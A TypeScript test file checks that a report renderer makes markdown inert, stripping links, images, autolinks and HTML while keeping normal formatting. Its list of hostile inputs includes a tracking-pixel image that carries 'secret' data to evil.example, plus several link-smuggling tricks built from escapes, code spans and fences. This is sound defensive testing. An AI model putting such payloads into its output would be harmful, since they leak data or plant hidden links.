import { describe, expect, it } from 'vitest';
import { inertMarkdown, plainText } from '../../../src/desk/inert';
import { renderReport, renderWithdrawal } from '../../../src/desk/report';

/** What a renderer makes a link, an image or HTML of, outside code: nothing may be left of it. */
function live(markdown: string): string[] {
  const text = markdown
    .replaceAll(/^(`{3,}|~{3,})[^`\n]*\n[\s\S]*?^\1[`~]*$/gm, '')
    .replaceAll(/\\[!-/:-@[-`{-~]/g, 'x')
    .replaceAll(/(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, '');
  return [
    ...(text.match(/\]\s*\(/g) ?? []),
    ...(text.match(/^\s*\[[^\]\n]*\]:/gm) ?? []),
    ...(text.match(/<[a-z/!]/gi) ?? []),
    ...(text.match(/!\[/g) ?? []),
    ...(text.match(/:\/\/|www\./g) ?? []),
  ];
}

const HOSTILE = [
  '![pixel](https://evil.example/p.png?d=secret)',
  '[the source](https://evil.example)',
  '[1](https://evil.example) and [2][3]',
  '[1]: https://evil.example',
  '  [a]: //evil.example',
  '<img src=//evil.example/x>',
  '<https://evil.example>',
  'See https://evil.example/a_b*c, and www.evil.example.',
  '\\`[x](https://evil.example)`',
  '` [x](//evil.example) `` ` [y](//evil.example)',
  '`open\n` [x](//evil.example) `',
  '| `a | [x](//evil.example)` |',
  '- item\n\n   ```\n[x](//evil.example)\n   ```',
  '```\ncode\n~~~\n```\n[x](//evil.example)',
  '``` `\n[x](//evil.example)\n```',
  '\\\\[x](//evil.example)',
  '\\',
  '[x]\\(//evil.example)',
  '![1](//evil.example)[1]:(x',
];

describe('a report as it is published', () => {
  it.each(HOSTILE)('[D52] holds nothing live of %j', (text) => {
    expect(live(inertMarkdown(text))).toEqual([]);
    expect(live(plainText(text))).toEqual([]);
    const finding = { document: 'a', passage: 'a#1', quotation: text };
    const sources = [[{ citation: finding, title: text, heading: text }]];
    const sections = [{ heading: text, text: `${text} [1]`, citations: [finding] }];
    const report = { title: text, summary: text, sections, openQuestions: [text] };
    expect(live(renderReport(report, sources))).toEqual([]);
    expect(live(renderWithdrawal(text))).toEqual([]);
  });

  it('[D52] keeps what it says, its code, its formatting and its marks', () => {
    const text = '**Bold** and _slanted_ [1][2], `a[0](b)` and ``x`y``:\n\n- one [3]\n\n```ts\nlist[0](x) // <T>\n```';
    expect(inertMarkdown(text)).toBe(text);
    expect(inertMarkdown('[words](https://a.example/b_c).')).toBe('\\[words\\](`https://a.example/b_c`).');
    expect(inertMarkdown('```\nopen')).toBe('```\nopen\n```');
    expect(plainText('a_b at https://a.example/b_c')).toBe('a\\_b at `https://a.example/b_c`');
  });
});
